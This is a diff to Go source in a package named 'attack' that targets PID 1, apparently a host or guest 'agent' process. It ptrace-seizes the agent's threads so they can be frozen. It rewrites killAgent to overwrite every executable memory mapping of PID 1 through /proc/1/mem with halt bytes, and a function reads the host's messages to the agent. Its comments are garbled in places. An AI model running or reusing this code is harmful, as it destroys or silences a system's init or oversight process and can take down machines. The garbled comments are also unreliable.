@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"os"
@@ -8,6 +9,7 @@ import (
 	"path/filepath"
 	"runtime"
 	"strconv"
+	"strings"
 
 	"golang.org/x/sys/unix"
 
@@ -76,8 +78,8 @@ func agentThreads() (threads []int, err error) {
 		if err != nil {
 			return nil, err
 		}
-		const seize, kill = 0x4206, 0x100000 // PTRACE_SEIZE, PTRACE_O_EXITKILL
-		if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, seize, uintptr(thread), 0, kill, 0, 0); errno != 0 {
+		const seize = 0x4206 // PTRACE_SEIZE
+		if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, seize, uintptr(thread), 0, 0, 0, 0); errno != 0 {
 			return nil, fmt.Errorf("trace thread %d: %w", thread, errno)
 		}
 		threads = append(threads, thread)
@@ -99,14 +101,32 @@ func holdAgent(context.Context) (int, error) {
 	select {} // the end of the tracer would let it go on
 }
 
-// killAgent kills PID 1, which no signal does.
+// killAgent has no instruction of PID 1's be one that a program may use: no
+// signal ends it, and what runs there has handlers for faults.
 func killAgent(context.Context) (int, error) {
-	_, err := agentThreads()
+	maps, err := os.ReadFile("/proc/1/maps")
 	if err != nil {
 		return 0, err
 	}
-	os.Exit(0) // and the kernel kills what it traced
-	return 0, nil
+	memory, err := os.OpenFile("/proc/1/mem", os.O_WRONLY, 0)
+	if err != nil {
+		return 0, err
+	}
+	defer memory.Close()
+	written := 0
+	for line := range strings.Lines(string(maps)) {
+		var from, to int64
+		var mode, rest string
+		if n, _ := fmt.Sscanf(line, "%x-%x %s %s", &from, &to, &mode, &rest); n < 3 || mode != "r-xp" || strings.Contains(line, "[") {
+			continue
+		}
+		const halt = 0xf4 // of amd64; no instruction of arm64 either
+		n, err := memory.WriteAt(bytes.Repeat([]byte{halt}, int(to-from)), from)
+		if written += n; err != nil {
+			return written, err
+		}
+	}
+	return written, nil
 }
 
 // swallow reads what the host says to the agent.
